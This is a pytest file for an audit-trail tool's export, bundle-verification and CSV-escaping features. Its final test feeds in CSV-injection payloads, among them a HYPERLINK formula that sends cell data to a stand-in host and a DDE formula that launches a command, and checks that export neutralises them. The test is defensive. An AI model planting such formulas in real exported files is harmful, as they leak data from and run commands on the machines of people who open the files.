"""Exports in every format, bundles with inclusion proofs, and their verification."""

import csv
import json

import pyarrow.parquet as pq
import pytest
from helpers.servers import run_cli
from helpers.trail import ALICE, BOB, sql_event

from jupyter_audit.cli import main as cli_main


@pytest.fixture
def trail(make_writer, trail_dir):
    w = make_writer(checkpoint_every=50)
    events = []
    for i in range(120):
        events.append(
            sql_event(i, trace="trace-a" if i < 60 else "trace-b", who=BOB if i % 3 else ALICE)
        )
    w.append_many(events)
    w.close()
    return trail_dir / "trail.duckdb"


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet"])
def test_export_formats_carry_the_export_record(trail, tmp_path, fmt):
    out = tmp_path / f"out.{fmt}"
    assert cli_main(["export", "--db", str(trail), "--format", fmt, "-o", str(out)]) == 0
    if fmt == "jsonl":
        rows = [json.loads(x) for x in out.read_text().splitlines()]
    elif fmt == "csv":
        rows = list(csv.DictReader(out.open()))
    else:
        rows = pq.read_table(out).to_pylist()
    assert len(rows) > 120
    sql = [r for r in rows if r["kind"] == "op.sql"]
    first = sql[0]
    for field in (
        "seq",
        "kind",
        "time",
        "prev_hash",
        "hash",
        "identity",
        "trace_id",
        "kernel_id",
        "session_id",
        "notebook",
        "msg_id",
        "payload",
    ):
        assert field in first
    ident = first["identity"] if fmt == "jsonl" else json.loads(first["identity"])
    assert set(ident) >= {
        "username",
        "subject",
        "issuer",
        "email",
        "groups",
        "auth_method",
        "token_id",
        "token_owner",
    }
    payload = first["payload"] if fmt == "jsonl" else json.loads(first["payload"])
    assert payload["driver"] == "sqlite3" and "statement" in payload
    assert str(first["time"]).endswith("Z")


def test_one_users_trace_bundle_verifies_alone(trail, tmp_path):
    out = tmp_path / "bob.jsonl"
    assert (
        cli_main(
            ["export", "--db", str(trail), "--user", "bob", "--trace", "trace-a", "-o", str(out)]
        )
        == 0
    )
    bundle = json.loads((tmp_path / "bob.jsonl.bundle.json").read_text())
    assert bundle["records"] and all(r["identity"]["username"] == "bob" for r in bundle["records"])
    assert all(r["trace_id"] == "trace-a" for r in bundle["records"])
    assert not bundle["uncovered"]
    # the bundle alone, in a process that has no access to the trail
    trail.rename(trail.with_suffix(".moved"))
    code, stdout, _ = run_cli("verify", "--bundle", str(out))
    assert code == 0
    assert "inclusion, not completeness" in stdout


def test_one_changed_byte_breaks_the_bundle(trail, tmp_path):
    out = tmp_path / "all.jsonl"
    assert cli_main(["export", "--db", str(trail), "-o", str(out)]) == 0
    bpath = tmp_path / "all.jsonl.bundle.json"
    text = bpath.read_text()
    assert cli_main(["verify", "--bundle", str(bpath)]) == 0
    for original, forged in (("loans WHERE id = 7", "loans WHERE id = 8"), ('"bob"', '"eve"')):
        bpath.write_text(text.replace(original, forged, 1))
        assert cli_main(["verify", "--bundle", str(bpath)]) == 1
    data = json.loads(text)
    data["checkpoint"]["merkle_root"] = "00" * 32
    bpath.write_text(json.dumps(data))
    assert cli_main(["verify", "--bundle", str(bpath)]) == 1


def test_export_time_and_notebook_filters(trail, tmp_path):
    out = tmp_path / "none.jsonl"
    assert cli_main(["export", "--db", str(trail), "--until", "2000-01-01", "-o", str(out)]) == 0
    assert out.read_text() == ""
    assert (
        cli_main(["export", "--db", str(trail), "--notebook", "analysis.ipynb", "-o", str(out)])
        == 0
    )
    assert len(out.read_text().splitlines()) == 120
    assert cli_main(["export", "--db", str(trail), "--since", "not a date", "-o", str(out)]) == 2


def test_show_lists_traces_and_timelines(trail, capsys):
    assert cli_main(["show", "--db", str(trail)]) == 0
    out = capsys.readouterr().out
    assert "trace-a" in out and "trace-b" in out
    assert cli_main(["show", "--db", str(trail), "trace-a"]) == 0
    out = capsys.readouterr().out
    assert "op.sql" in out and "SELECT * FROM loans WHERE id = 0" in out
    assert cli_main(["show", "--db", str(trail), "nope"]) == 2


def test_csv_cells_that_spreadsheets_would_run_are_neutralised(make_writer, trail_dir, tmp_path):
    """OWASP's CSV injection advice: a cell starting with =, +, -, @, tab or CR is prefixed
    with an apostrophe in CSV; JSONL keeps the value as it is."""
    from jupyter_audit.store.export import csv_cell

    w = make_writer()
    evil = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3"]
    for i, text in enumerate(evil):
        event = sql_event(i)
        event["payload"]["statement"] = text
        w.append(event)
    w.close()
    db = trail_dir / "trail.duckdb"
    out, raw = tmp_path / "out.csv", tmp_path / "out.jsonl"
    assert cli_main(["export", "--db", str(db), "--format", "csv", "-o", str(out)]) == 0
    assert cli_main(["export", "--db", str(db), "--format", "jsonl", "-o", str(raw)]) == 0
    cells = [c for row in csv.reader(out.open()) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or c.startswith("-2")]
    statements = [json.loads(r)["payload"].get("statement") for r in raw.read_text().splitlines()]
    assert [s for s in statements if s in evil] == evil  # untouched outside CSV
    assert csv_cell("-1") == "-1" and csv_cell("-1.5") == "-1.5"  # plain numbers stay
    assert csv_cell("-1+1") == "'-1+1" and csv_cell("\t=1") == "'\t=1"
    assert csv_cell("a=b") == "a=b"
